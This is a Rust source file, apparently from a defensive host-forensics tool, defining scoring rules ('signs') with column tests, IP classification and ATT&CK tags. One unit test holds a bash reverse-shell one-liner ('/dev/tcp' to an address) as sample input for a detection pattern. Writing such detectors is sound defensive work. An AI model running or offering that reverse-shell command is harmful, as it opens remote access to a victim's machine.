//! Signs: what about a row makes a difference in it worth more, or less.

use super::Attack;
use crate::name::ColumnName;
use bstr::ByteSlice;
use serde::Deserialize;
use std::net::IpAddr;

/// Something about a row that makes a difference in it worth more.
#[derive(Clone, Debug, PartialEq, Deserialize)]
pub struct Sign {
    /// What must be so.
    #[serde(flatten)]
    pub when: Condition,
    /// What else must be so.
    #[serde(default)]
    pub also: Vec<Condition>,
    /// How many bits it adds to the row's score; fewer than none where it is a sign of harmlessness.
    pub bits: f64,
    /// Whether it speaks of rows that are not there; if not, of rows that are.
    #[serde(default)]
    pub missing: bool,
    /// Whether it speaks only where the column is other than what the others have.
    #[serde(default)]
    pub changed: bool,
    /// What it means, to go on a sentence: "its binary is deleted".
    pub say: String,
    /// The ATT&CK techniques that it speaks for.
    #[serde(default)]
    pub attack: Vec<Attack>,
}

impl Sign {
    /// Whether it says that a content changed.
    pub fn speaks_of_content(&self) -> bool {
        self.changed && matches!(self.when.column.as_str(), "md5" | "sha1" | "sha256")
    }

    /// Whether a row with these cells shows it, apart from whether the row is there and what the others have.
    pub fn holds<'c>(&self, cell: impl Fn(&str) -> Option<&'c [u8]>) -> bool {
        let mut conditions = std::iter::once(&self.when).chain(&self.also);
        conditions.all(|when| cell(when.column.as_str()).is_some_and(|cell| when.test.holds(cell)))
    }
}

/// A test of one column.
#[derive(Clone, Debug, PartialEq, Deserialize)]
pub struct Condition {
    /// The column that is looked at.
    pub column: ColumnName,
    /// What its value must be.
    #[serde(flatten)]
    pub test: Test,
}

/// A test of one value.
#[derive(Clone, Debug, PartialEq, Deserialize)]
#[serde(rename_all = "snake_case")]
pub enum Test {
    /// It is one of these.
    Is(Vec<String>),
    /// It is none of these, and not empty.
    IsNot(Vec<String>),
    /// It starts with one of these.
    StartsWith(Vec<String>),
    /// It ends with one of these.
    EndsWith(Vec<String>),
    /// It contains one of these.
    Contains(Vec<String>),
    /// It is a whole number, no less than the first and no more than the second.
    Between([i64; 2]),
    /// It is an address, and whether it is one of the internet: none of those that are used within a network only.
    Public(bool),
}

impl Test {
    /// Whether a value passes.
    pub fn holds(&self, value: &[u8]) -> bool {
        let any = |list: &[String], f: &dyn Fn(&[u8]) -> bool| list.iter().any(|item| f(item.as_bytes()));
        match self {
            Self::Is(list) => any(list, &|item| value == item),
            Self::IsNot(list) => !value.is_empty() && !any(list, &|item| value == item),
            Self::StartsWith(list) => any(list, &|item| value.starts_with(item)),
            Self::EndsWith(list) => any(list, &|item| value.ends_with(item)),
            Self::Contains(list) => any(list, &|item| contains(value, item)),
            Self::Between([low, high]) => text(value)
                .and_then(|text| text.parse::<i64>().ok())
                .is_some_and(|number| (*low..=*high).contains(&number)),
            Self::Public(wanted) => address(value).is_some_and(|address| is_public(address) == *wanted),
        }
    }
}

/// Searches without preparing for it: values and what is looked for are short.
fn contains(value: &[u8], wanted: &[u8]) -> bool {
    let Some(&first) = wanted.first() else { return false };
    let mut rest = value;
    while let Some(at) = rest.find_byte(first) {
        let from_there = rest.get(at..).unwrap_or_default();
        if from_there.starts_with(wanted) {
            return true;
        }
        rest = from_there.get(1..).unwrap_or_default();
    }
    false
}

fn text(value: &[u8]) -> Option<&str> {
    std::str::from_utf8(value).ok()
}

/// An address, without the length of a network or the zone behind it.
fn address(value: &[u8]) -> Option<IpAddr> {
    let text = text(value)?;
    let end = text.find(['/', '%']).unwrap_or(text.len());
    text.get(..end)?.parse().ok()
}

/// Addresses that one meets within networks only: RFC 1918, 3927, 4193, 4291, 6598, 2544, 5771.
fn is_public(address: IpAddr) -> bool {
    match address.to_canonical() {
        IpAddr::V4(v4) => {
            let [a, b, ..] = v4.octets();
            let shared = a == 100 && (64..128).contains(&b);
            let benchmark = a == 198 && (18..20).contains(&b);
            !(v4.is_private()
                || v4.is_loopback()
                || v4.is_link_local()
                || a == 0
                || a >= 224
                || shared
                || benchmark)
        }
        // 2000::/3 is all that was ever given away.
        IpAddr::V6(v6) => v6.octets().first().is_some_and(|first| first >> 5 == 1),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn list(items: &[&str]) -> Vec<String> {
        items.iter().map(|&item| item.to_owned()).collect()
    }

    #[test]
    fn tests_of_values() {
        assert!(Test::Contains(list(&["/../", "dev/tcp"])).holds(b"bash -i >& /dev/tcp/1.2.3.4/1"));
        assert!(!Test::Contains(list(&[""])).holds(b"x"));
        assert!(Test::IsNot(list(&["127.0.0.1"])).holds(b"0.0.0.0"));
        assert!(!Test::IsNot(list(&["127.0.0.1"])).holds(b""));
        assert!(Test::EndsWith(list(&[".scope", ".device"])).holds(b"session-1.scope"));
        assert!(!Test::EndsWith(list(&[".scope"])).holds(b"a.scope.service"));
        let system = Test::Between([1, 999]);
        assert!(system.holds(b"1") && system.holds(b"999"));
        assert!(!system.holds(b"0") && !system.holds(b"1000") && !system.holds(b"") && !system.holds(b"1x"));
    }

    #[test]
    fn addresses_of_the_internet_and_others() {
        let public = Test::Public(true);
        for of_internet in
            ["8.8.8.8", "203.0.113.7", "172.32.0.1", "2a00:1450::1", "::ffff:8.8.8.8", "9.9.9.9/32"]
        {
            assert!(public.holds(of_internet.as_bytes()), "{of_internet}");
            assert!(!Test::Public(false).holds(of_internet.as_bytes()), "{of_internet}");
        }
        for within in [
            "10.1.2.3",
            "172.16.0.1",
            "192.168.1.1",
            "127.0.0.53",
            "169.254.169.254",
            "100.64.0.1",
            "0.0.0.0",
            "224.0.0.1",
            "255.255.255.255",
            "::",
            "::1",
            "fe80::1%eth0",
            "fd00::1",
            "10.0.0.0/8",
            "198.18.0.1",
        ] {
            assert!(!public.holds(within.as_bytes()), "{within}");
            assert!(Test::Public(false).holds(within.as_bytes()), "{within}");
        }
        for none in ["", "router", "1.2.3", "/"] {
            assert!(!public.holds(none.as_bytes()) && !Test::Public(false).holds(none.as_bytes()), "{none}");
        }
    }

    #[test]
    fn a_sign_holds_where_all_its_conditions_do() {
        let sign: Sign = serde_json::from_str(
            r#"{"column":"path","ends_with":["/sh"],"also":[{"column":"uid","between":[1,999]}],"bits":3,"say":"x"}"#,
        )
        .unwrap();
        let of = |path: &'static str, uid: &'static str| {
            sign.holds(move |column| match column {
                "path" => Some(path.as_bytes()),
                "uid" => Some(uid.as_bytes()),
                _ => None,
            })
        };
        assert!(of("/bin/sh", "33"));
        assert!(!of("/bin/sh", "0") && !of("/bin/cat", "33"));
        assert!(!sign.holds(|column| (column == "path").then_some(b"/bin/sh".as_slice())));
    }
}
